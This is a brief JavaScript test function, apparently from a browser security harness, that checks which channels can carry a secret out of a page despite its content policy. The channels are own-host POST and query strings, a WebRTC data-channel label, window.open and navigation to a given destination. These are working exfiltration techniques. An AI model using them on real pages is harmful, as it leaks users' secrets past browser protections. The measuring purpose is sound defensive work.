// Ways out of a page that no policy of its own can close. Each is taken once, to know which of them are open in this browser.
// In: the name of a way, where it leads, and the secret. Out: the bytes that the page says it has sent, before and after.

async ({ name, to, port, secret }) => {
  const later = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
  const counted = () => globalThis.fanlightPage?.bytesSent?.() ?? null;
  const before = counted();
  const ways = {
    'own-host-body': () => fetch('./', { method: 'POST', body: secret }),
    'own-host-query': () => fetch(`./fanlight.json?${secret}`),
    webrtc: async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      peer.createDataChannel(secret);
      await peer.setLocalDescription(await peer.createOffer());
      await later(300);
    },
    window: () => open(to + secret),
    navigation: () => { setTimeout(() => { location.href = to + secret; }); },
  };
  let threw = '';
  try {
    await ways[name]();
  } catch (error) {
    threw = String(error).slice(0, 200);
  }
  return { before, after: counted(), threw };
}
